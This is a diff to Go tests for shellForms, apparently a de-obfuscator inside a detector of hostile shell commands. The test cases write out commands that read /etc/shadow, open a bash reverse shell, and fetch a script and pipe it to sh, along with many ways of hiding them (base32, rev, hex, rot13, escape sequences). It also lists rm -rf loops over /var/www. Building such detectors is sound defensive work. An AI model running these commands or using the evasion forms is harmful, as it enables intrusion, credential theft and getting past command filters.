@@ -26,6 +26,13 @@ func TestShellFormsObfuscated(t *testing.T) {
 		{`f=/etc/shadow; cat "${f}"`, `f=/etc/shadow; cat /etc/shadow`},
 		{`cat${IFS}/etc/sh''adow`, `cat /etc/shadow`},
 		{`u=/dev/tcp/127.0.0.1/4444; bash -i >& $u 0>&1`, `u=/dev/tcp/127.0.0.1/4444; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`},
+		{`c${u}at /etc/${x}shadow`, `cat /etc/shadow`},
+		{`c${u:-}at /etc/sh${x:-a}dow`, `cat /etc/shadow`},
+		{`bash -i >&/dev/tc${z}p/127.0.0.1/4444 0>&1`, `bash -i >&/dev/tcp/127.0.0.1/4444 0>&1`},
+		{`curl http://127.0.0.1/a.sh | $0`, `curl http://127.0.0.1/a.sh | sh`},
+		// bash's $'…'
+		{`cat $'/etc/\x73hadow'`, `cat /etc/shadow`},
+		{`$'\143\141\164' /etc/shadow`, `cat /etc/shadow`},
 		// printf and echo substitutions
 		{`$(printf '\x63\x61\x74') /etc/shadow`, `cat /etc/shadow`},
 		{`cat $(printf '/etc/\x73hadow')`, `cat /etc/shadow`},
@@ -43,6 +50,9 @@ func TestShellFormsObfuscated(t *testing.T) {
 		{`echo MNQXIIBPMV2GGL3TNBQWI33X | base32 -d | sh`, `cat /etc/shadow`},
 		{`echo '1&>0 4444/1.0.0.721/pct/ved/ &> i- hsab' | rev | bash`, `bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`},
 		{`printf 'hs.a/1.0.0.721//:ptth lruc' | rev | sh`, `curl http://127.0.0.1/a.sh`},
+		{`rev<<<'1&>0 4444/1.0.0.721/pct/ved/ &> i- hsab'|bash`, `bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`},
+		{`xxd -r -p <<< 636174202f6574632f736861646f77 | sh`, `cat /etc/shadow`},
+		{`echo 'png /rgp/funqbj' | tr 'a-z' 'n-za-m' | sh`, `cat /etc/shadow`},
 	} {
 		forms := shellForms(c.in)
 		if !slices.Contains(forms, c.want) {
@@ -56,13 +66,18 @@ func TestShellFormsObfuscated(t *testing.T) {
 func TestShellFormsObfuscatedLeftAlone(t *testing.T) {
 	for _, in := range []string{
 		`convert in.png -resize 64x64 out.png`,
-		`cat "$HOME/.profile"`,              // a parameter never assigned: as written
-		`ls /var/www/*.php`,                 // a pattern matching no known file
-		`echo '$(printf x)'`,                // single quotes: no substitution
-		`php -r 'echo 1;'`,                  // quotes removed only: no new form of interest
-		`$(curl -s http://x/y) /etc/shadow`, // a substitution that is not printf: as written
+		`cat "$HOME/.profile"`,                      // a parameter never assigned: as written
+		`ls /var/www/*.php`,                         // a pattern matching no known file
+		`echo '$(printf x)'`,                        // single quotes: no substitution
+		`php -r 'echo 1;'`,                          // quotes removed only: no new form of interest
+		`$(curl -s http://x/y) /etc/shadow`,         // a substitution that is not printf: as written
+		`for d in a b; do rm -rf /var/www/$d; done`, // set as the loop runs: as written
+		`while read -r d; do rm -rf "/var/www/${d}"; done < list`,
 	} {
 		for _, f := range shellForms(in) {
+			if strings.Contains(in, "rm -rf") && !strings.Contains(f, "/var/www/$d") && !strings.Contains(f, "/var/www/${d}") {
+				t.Errorf("%q: a loop variable expanded: %q", in, f)
+			}
 			if strings.Contains(in, "$HOME") && !strings.Contains(f, "$HOME") {
 				t.Errorf("%q: unknown parameter expanded: %q", in, f)
 			}
